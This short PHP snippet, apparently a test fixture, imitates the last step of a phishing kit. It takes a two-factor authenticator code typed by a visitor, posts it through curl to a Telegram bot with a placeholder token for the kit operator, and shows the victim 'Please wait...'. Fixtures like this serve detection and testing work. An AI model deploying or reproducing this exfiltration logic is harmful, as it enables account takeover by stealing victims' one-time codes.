<?php
// a kit's last step: the authenticator code the visitor typed, posted to the operator's chat
// (written for the tests, never run)
if (!empty($_POST['twofa'])) {
    $code = htmlspecialchars($_POST['twofa']);
    $ch = curl_init('https://api.telegram.org/bot000000:TESTTOKEN/sendMessage');
    curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);
    curl_setopt($ch, CURLOPT_POSTFIELDS, ['chat_id' => '-1001', 'text' => "Authenticator: $code"]);
    curl_exec($ch);
    echo 'Please wait...';
}
